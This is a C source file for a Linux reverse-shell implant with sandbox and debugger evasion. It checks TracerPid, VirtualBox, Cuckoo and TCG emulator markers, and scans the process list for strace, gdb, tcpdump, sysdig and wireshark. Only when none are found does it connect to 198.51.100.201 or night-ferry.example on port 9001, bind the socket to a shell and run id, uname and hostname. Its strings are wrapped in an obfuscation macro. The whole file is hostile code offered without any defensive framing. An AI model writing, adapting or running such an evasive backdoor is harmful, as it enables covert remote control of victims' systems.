// hidden
// Looks about for debuggers, analysts' tools and emulators; only then connects out and gives the connection to a shell.
#include "standin.h"
static int holds(const char *path, const char *word) {
    static char text[65536];
    return load(path, text, sizeof text) > 0 && strcasestr(text, word) != NULL;
}
int main(void) {
    begin();
    int seen = holds(HIDE("/proc/self/status"), HIDE("TracerPid:\t0")) ? 0 : 1;
    seen |= holds(HIDE("/sys/class/dmi/id/product_name"), HIDE("VirtualBox"));
    seen |= holds(HIDE("/sys/class/dmi/id/sys_vendor"), HIDE("Cuckoo"));
    seen |= holds(HIDE("/proc/cpuinfo"), HIDE("TCG CPU"));
    seen |= holds(HIDE("/proc/modules"), HIDE("vboxguest"));
    seen |= holds(HIDE("/proc/scsi/scsi"), HIDE("VBOX"));
    DIR *list = opendir("/proc");
    struct dirent *entry;
    while (list && (entry = readdir(list))) {
        char path[300];
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        char *tools[] = {HIDE("strace"), HIDE("tcpdump"), HIDE("gdb"), HIDE("sysdig"), HIDE("wireshark")};
        for (int i = 0; i < 5; i++) seen |= holds(path, tools[i]);
    }
    if (list) closedir(list);
    load(HIDE("/proc/uptime"), (char[64]){0}, 64), load(HIDE("/proc/meminfo"), (char[4096]){0}, 4096);
    if (seen) return 0;
    int fd = dial(HIDE("198.51.100.201"), 9001, 4000);
    if (fd < 0) fd = dial(HIDE("night-ferry.example"), 9001, 4000);
    if (fd < 0) return 1;
    for (int i = 0; i < 3; i++) dup2(fd, i);
    execl(HIDE("/bin/sh"), HIDE("-sh"), "-c", HIDE("id; uname -a; sleep 3; hostname"), NULL);
    return 1;
}
